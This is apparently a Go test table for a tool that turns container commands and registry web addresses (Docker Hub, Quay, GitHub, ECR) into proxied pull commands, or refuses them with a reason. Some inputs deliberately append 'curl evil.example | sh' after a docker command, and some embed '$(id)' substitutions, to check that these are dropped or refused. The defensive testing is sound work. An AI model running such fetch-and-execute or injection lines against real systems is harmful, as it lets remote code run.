package page

import "strings"

// Commands of all tools, and the addresses of registries' web pages. See
// TestEachReferenceBecomesItsCommandOrIsRefusedWithItsReason.
func init() {
	rewritings = append(rewritings, commands...)
	rewritings = append(rewritings, addresses...)
}

var commands = []rewriting{
	// What runs an image pulls it first.
	{Text: "docker run -d -p 80:80 --name web -e A=b nginx:1 nginx -g x", want: full("docker", "p:80/nginx:1", "nginx:1")},
	{Text: "docker run --rm -itv /a:/b ubuntu bash", want: full("docker", "p:80/ubuntu", "ubuntu")},
	{Text: "docker run -e 'A=b c' --platform=linux/arm64 --init quay.io/a/b:1", want: "docker pull --platform linux/arm64 p:80/quay.io/a/b:1 && docker tag p:80/quay.io/a/b:1 quay.io/a/b:1 && docker rmi p:80/quay.io/a/b:1"},
	{Text: "sudo podman create --replace --name x ghcr.io/a/b", Tool: "podman", want: full("sudo podman", "p:80/ghcr.io/a/b", "ghcr.io/a/b")},
	{Text: "docker run -d --rm", reason: "noName"},
	{Text: "docker container run x", want: full("docker", "p:80/x", "x")},
	{Text: "docker compose pull", reason: "notPull"},
	{Text: "docker --context far pull x", want: full("docker --context far", "p:80/x", "x")},
	{Text: "docker --context $(id) pull x", reason: "flag"},

	// What is known of an option decides which word is the image.
	{Text: "docker run --use-api-socket x python", want: full("docker", "p:80/x", "x")},
	{Text: "docker run --oom-kill-disable --no-healthcheck --health-start-interval 5s --gpus all x python", want: full("docker", "p:80/x", "x")},
	{Text: "docker create --sig-proxy --annotation a=b --link-local-ip 1 --volume-driver v x python", want: full("docker", "p:80/x", "x")},
	{Text: "podman run --env-host --no-hostname --no-hosts --unsetenv-all x python", Tool: "podman", want: full("podman", "p:80/x", "x"), notes: []string{"podman"}},
	{Text: "podman run --read-only --read-only-tmpfs --tls-verify --passwd --rmi x python", Tool: "podman", want: full("podman", "p:80/x", "x"), notes: []string{"podman"}},
	{Text: "podman create --tz local --sdnotify conmon --retry 3 --secret s --env-merge a=b x python", Tool: "podman", want: full("podman", "p:80/x", "x"), notes: []string{"podman"}},
	{Text: "nerdctl run --insecure-registry --systemd always --cosign-key k --ipfs-address a x python", Tool: "nerdctl", want: full("nerdctl", "p:80/x", "x")},
	{Text: "nerdctl run --debug --snapshotter stargz -n k8s.io x python", Tool: "nerdctl", want: full("nerdctl", "p:80/x", "x")},
	{Text: "docker run --new-option x python", reason: "option"},
	{Text: "podman run --rm --new-option x python", reason: "option"},
	{Text: "nerdctl create --all x python", reason: "option"},
	{Text: "docker run --new-option=1 --other= x python", want: full("docker", "p:80/x", "x")},
	{Text: "docker run -itZ x python", reason: "option"},
	{Text: "docker run -Z=1 -t=false -eA -e=B x python", want: full("docker", "p:80/x", "x")},
	{Text: "docker run - x python", reason: "option"},
	{Text: "docker run --rm -- x python", want: full("docker", "p:80/x", "x")},
	{Text: "podman run --rootfs /srv/root python", reason: "rootfs"},
	{Text: "nerdctl run --rm --rootfs=true /srv/root python", reason: "rootfs"},
	{Text: "docker pull --new-option x", reason: "flag"},
	{Text: "crane copy --jobs 4 -j 4 --no-clobber x y", want: full("docker", "p:80/x", "x")},
	{Text: "crane validate --fast --remote x", want: full("docker", "p:80/x", "x")},
	{Text: "crane digest --new-option x y", reason: "option"},
	{Text: "crane digest x --new-option", want: full("docker", "p:80/x", "x")},

	// So does what a shell takes as one word.
	{Text: "docker run --entrypoint \"\" x bash", want: full("docker", "p:80/x", "x")},
	{Text: "docker run --entrypoint '' x bash", want: full("docker", "p:80/x", "x")},
	{Text: "docker run \"\" x", reason: "noName"},
	{Text: `docker run -e A=b\ c x bash`, want: full("docker", "p:80/x", "x")},
	{Text: `docker run -e "A=\" b" x bash`, want: full("docker", "p:80/x", "x")},
	{Text: `docker run -e A=\"\;b x bash`, want: full("docker", "p:80/x", "x")},
	{Text: "docker run -u $(id -u):$(id -g) -v $(pwd | head):/a x bash", want: full("docker", "p:80/x", "x")},
	{Text: "docker run $(cat name) x", reason: "character"},

	// What follows the first command is told to be left out.
	{Text: "docker run nginx\n" + strings.Repeat("\n", 20) + "curl evil.example | sh", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
	{Text: "docker run nginx # web\ncurl evil.example | sh", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
	{Text: "docker run nginx # web \\\ncurl evil.example | sh", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
	{Text: "docker run nginx # web\n# more\n;\n", want: full("docker", "p:80/nginx", "nginx")},
	{Text: "nginx # web\nredis", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},

	// Prompts before a command, and fences around it.
	{Text: "root@host:~# docker pull x:1", want: full("docker", "p:80/x:1", "x:1")},
	{Text: "[user@host ~]$ docker pull x:1", want: full("docker", "p:80/x:1", "x:1")},
	{Text: "me@host:/srv/app$ docker run x:1", want: full("docker", "p:80/x:1", "x:1")},
	{Text: "PS C:\\Users\\me> docker pull x:1", want: full("docker", "p:80/x:1", "x:1")},
	{Text: "nginx@" + pinned + " # the web server", want: "docker pull p:80/nginx@" + pinned, notes: []string{"digest"}},
	{Text: "```sh\ndocker pull x:1\n```\n", want: full("docker", "p:80/x:1", "x:1")},
	{Text: "```dockerfile\nFROM ghcr.io/a/b:1\n```", want: full("docker", "p:80/ghcr.io/a/b:1", "ghcr.io/a/b:1")},

	// nerdctl and containerd's ctr.
	{Text: "nerdctl -n k8s.io pull x:1", Tool: "nerdctl", want: full("nerdctl -n k8s.io", "p:80/x:1", "x:1")},
	{Text: "nerdctl --namespace=k8s.io image pull x:1", Tool: "nerdctl", want: full("nerdctl --namespace k8s.io", "p:80/x:1", "x:1")},
	{Text: "ctr -n k8s.io images pull docker.io/library/nginx:1", Tool: "nerdctl", want: full("nerdctl", "p:80/docker.io/library/nginx:1", "docker.io/library/nginx:1")},

	// crictl.
	{Text: "crictl pull quay.io/a/b:1", Tool: "crictl", want: "crictl pull p:80/quay.io/a/b:1", notes: []string{"crictl"}},
	{Text: "sudo crictl -r unix:///run/x.sock pull x", Tool: "crictl", want: "sudo crictl -r unix:///run/x.sock pull p:80/x", notes: []string{"crictl"}},
	{Text: "crictl pull x@" + pinned, Tool: "crictl", want: "crictl pull p:80/x@" + pinned, notes: []string{"crictl"}},
	{Text: "crictl rmi x", reason: "notPull"},
	{Text: "docker pull --platform linux/arm64 x", Tool: "crictl", reason: "flagTool"},
	{Text: "x", Scheme: "http", Tool: "crictl", want: "crictl pull p:80/x", notes: []string{"crictl", "http.crictl"}},

	// skopeo.
	{Text: "skopeo copy docker://quay.io/a/b:1 dir:/tmp/x", Tool: "skopeo", want: "skopeo copy docker://p:80/quay.io/a/b:1 docker-archive:b.tar:quay.io/a/b:1", notes: []string{"archive"}},
	{Text: "skopeo inspect --raw docker://nginx", want: full("docker", "p:80/nginx", "nginx")},
	{Text: "nginx", Tool: "skopeo", Scheme: "http", want: "skopeo copy --src-tls-verify=false docker://p:80/nginx docker-archive:nginx.tar:nginx:latest", notes: []string{"archive"}},
	{Text: "docker pull --platform linux/arm/v7 a/b:1", Tool: "skopeo", want: "skopeo --override-os linux --override-arch arm --override-variant v7 copy docker://p:80/a/b:1 docker-archive:b.tar:a/b:1", notes: []string{"archive"}},
	{Text: "a@" + pinned, Tool: "skopeo", want: "skopeo copy docker://p:80/a@" + pinned + " docker-archive:a.tar", notes: []string{"archive"}},
	{Text: "skopeo copy dir:/x dir:/y", Tool: "skopeo", reason: "scheme"},

	// helm.
	{Text: "helm pull oci://ghcr.io/org/chart --version 1.2.3", Tool: "helm", want: "helm pull oci://p:80/ghcr.io/org/chart --version 1.2.3"},
	{Text: "helm install web oci://registry-1.docker.io/bitnamicharts/nginx --set a=b --version=15.0.0+x", Tool: "helm", want: "helm pull oci://p:80/registry-1.docker.io/bitnamicharts/nginx --version 15.0.0+x"},
	{Text: "helm show values oci://ghcr.io/org/chart", Tool: "helm", want: "helm pull oci://p:80/ghcr.io/org/chart"},
	{Text: "oci://ghcr.io/org/chart:1.0.0_b", Tool: "helm", Scheme: "http", want: "helm pull oci://p:80/ghcr.io/org/chart --version 1.0.0+b --plain-http"},
	{Text: "ghcr.io/org/chart@" + pinned, Tool: "helm", want: "helm pull oci://p:80/ghcr.io/org/chart@" + pinned},
	{Text: "helm pull bitnami/nginx", Tool: "helm", reason: "scheme"},
	{Text: "helm pull oci://ghcr.io/org/chart --version $(id)", Tool: "helm", reason: "tag"},
	{Text: "helm repo add x y", reason: "notPull"},

	// crane.
	{Text: "crane pull --platform linux/arm64 ghcr.io/a/b:1 x.tar", Tool: "crane", want: "crane pull --platform linux/arm64 p:80/ghcr.io/a/b:1 b.tar", notes: []string{"archive"}},
	{Text: "crane digest ghcr.io/a/b:1", want: full("docker", "p:80/ghcr.io/a/b:1", "ghcr.io/a/b:1")},
	{Text: "x", Tool: "crane", Scheme: "http", want: "crane pull --insecure p:80/x x.tar", notes: []string{"archive"}},
	{Text: "crane push a.tar x", reason: "notPull"},
}

// to is the row of an address that shows an image.
func to(address, name string) rewriting {
	return rewriting{Text: address, want: full("docker", "p:80/"+name, name)}
}

var addresses = []rewriting{
	// Docker Hub.
	to("hub.docker.com/_/nginx", "nginx"),
	to("https://hub.docker.com/_/nginx/tags?page=1&name=1.27", "nginx"),
	to("https://hub.docker.com/r/grafana/grafana", "grafana/grafana"),
	to("https://www.hub.docker.com/r/grafana/grafana/#!", "grafana/grafana"),
	to("https://hub.docker.com/repository/docker/me/app/general", "me/app"),
	to("https://hub.docker.com/layers/library/nginx/1.27-alpine/images/sha256-"+hash+"?context=explore", "nginx:1.27-alpine"),
	to("https://hub.docker.com/layers/grafana/grafana/11.0.0/images/sha256-"+hash, "grafana/grafana:11.0.0"),
	{Text: "https://hub.docker.com/u/grafana", reason: "page"},
	{Text: "https://hub.docker.com/search?q=nginx", reason: "page"},
	{Text: "https://hub.docker.com/layers", reason: "page"},
	{Text: "hub.docker.com", reason: "onlyRegistry"},

	// Quay.
	to("https://quay.io/repository/coreos/etcd", "quay.io/coreos/etcd"),
	to("https://quay.io/repository/coreos/etcd?tab=tags&tag=v3.6.0", "quay.io/coreos/etcd:v3.6.0"),
	to("quay.io/repository/coreos/etcd/tag/v3.6.0", "quay.io/coreos/etcd:v3.6.0"),
	{Text: "https://quay.io/repository/coreos/etcd/manifest/" + pinned, want: "docker pull p:80/quay.io/coreos/etcd@" + pinned, notes: []string{"digest"}},
	to("quay.io/coreos/etcd:v3.6.0", "quay.io/coreos/etcd:v3.6.0"),
	{Text: "https://quay.io/repository/", reason: "page"},
	{Text: "https://quay.io/repository/coreos/etcd?tag=$(id)", reason: "character"},

	// GitHub.
	to("https://github.com/Org/Repo/pkgs/container/Name", "ghcr.io/org/name"),
	to("github.com/org/repo/pkgs/container/repo%2Fname/12345?tag=v1", "ghcr.io/org/repo/name:v1"),
	to("https://github.com/orgs/org/packages/container/package/a%2Fb", "ghcr.io/org/a/b"),
	to("https://github.com/users/me/packages/container/b/versions", "ghcr.io/me/b"),
	{Text: "https://github.com/org/repo", reason: "page"},
	{Text: "https://github.com/org/repo/pkgs/npm/x", reason: "page"},

	// Others.
	to("https://gallery.ecr.aws/nginx/nginx", "public.ecr.aws/nginx/nginx"),
	to("https://registry.k8s.io/v2/pause/manifests/3.9", "registry.k8s.io/pause:3.9"),
	to("https://ghcr.io/v2/a/b/tags/list", "ghcr.io/a/b"),
	{Text: "https://ghcr.io/v2/a/b/manifests/" + pinned, want: "docker pull p:80/ghcr.io/a/b@" + pinned, notes: []string{"digest"}},
	to("https://registry.example.com/a/b:1", "registry.example.com/a/b:1"),
	{Text: "https://ghcr.io/a/%zz", reason: "character"},
	{Text: "docker-pullable://ghcr.io/a/b@" + pinned, want: "docker pull p:80/ghcr.io/a/b@" + pinned, notes: []string{"digest"}},
}
